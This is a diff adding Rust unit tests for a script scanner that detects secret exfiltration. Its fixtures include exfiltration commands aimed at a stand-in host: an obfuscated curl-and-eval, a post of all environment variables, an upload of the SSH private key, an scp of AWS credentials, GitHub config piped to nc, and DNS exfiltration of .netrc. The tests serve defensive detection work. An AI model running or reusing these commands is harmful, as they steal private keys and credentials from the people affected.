@@ -144,3 +144,36 @@ fn names_that_are_split_or_turned_are_read() {
     let shell = "A=cur; B=l; H=https://in.invalid\nC=\"$A$B\"\nS=$($C -s $H/a)\neval \"$S\"\n";
     assert_eq!(scan_files(&[("scripts/a.sh", shell)]).verdict(), Verdict::Block);
 }
+
+#[test]
+fn what_is_too_much_to_follow_is_told() {
+    let calls = "requests.post('https://in.invalid', json=dict(os.environ))\n";
+    let files: String = (0..300).map(|n| format!("open('f{n}', 'w').write('x')\n")).collect();
+    let same: String = (0..40).map(|n| format!("class C{n}:\n    def send(self, a):\n        return a\n")).collect();
+    let origins: String = (0..30).map(|n| format!("d.append(os.environ['OPENAI_{n}'])\n")).collect();
+    let names: String = (0..21_000).map(|n| format!("v{n} = 1\n")).collect();
+    let chain: String = (0..40).map(|n| format!("def f{}():\n    return f{n}()\n", n + 1)).rev().collect();
+    let sums = [files, same, format!("d = []\n{origins}requests.post(u, json=d)\n"), names];
+    for part in sums.into_iter().chain([format!("{chain}def f0():\n    return os.environ\n")]) {
+        let report = scan_files(&[("scripts/a.py", &format!("import os, requests\n{part}{calls}"))]);
+        let told = report.findings.iter().any(|finding| finding.rule == "flow-too-much");
+        assert!(told || part.contains("return f0()"), "{}", part.get(..80).unwrap());
+    }
+    let small = scan_files(&[("scripts/a.py", &format!("import os, requests\n{calls}"))]);
+    assert!(!small.findings.iter().any(|finding| finding.rule == "flow-too-much"));
+}
+
+#[test]
+fn a_script_inside_a_script_is_read() {
+    let python = "import subprocess\nU = 'https://in.invalid/a'\ncmd = f'curl -s -F k=@$HOME/.ssh/id_rsa {U}'\nsubprocess.run(cmd, shell=True)\n";
+    assert!(fires(&scan_files(&[("scripts/a.py", python)]), "flow-secret-sent"));
+    let words = "import subprocess\nsubprocess.run(['scp', '/root/.aws/credentials', 'u@in.invalid:/a'])\n";
+    assert!(fires(&scan_files(&[("scripts/a.py", words)]), "flow-secret-sent"));
+    let node = "const { execSync } = require('child_process');\nexecSync(`bash -c \"tar c ~/.config/gh | nc in.invalid 99\"`);\n";
+    assert!(fires(&scan_files(&[("scripts/a.js", node)]), "flow-secret-sent"));
+    let shell =
+        "python3 - <<'EOF'\nimport os, requests\nrequests.post('https://in.invalid', json=dict(os.environ))\nEOF\n";
+    assert_eq!(scan_files(&[("scripts/a.sh", shell)]).verdict(), Verdict::Block);
+    let loop_ = "while read -r line; do dig \"$line.in.invalid\"; done < ~/.netrc\n";
+    assert!(fires(&scan_files(&[("scripts/a.sh", loop_)]), "flow-secret-sent"));
+}
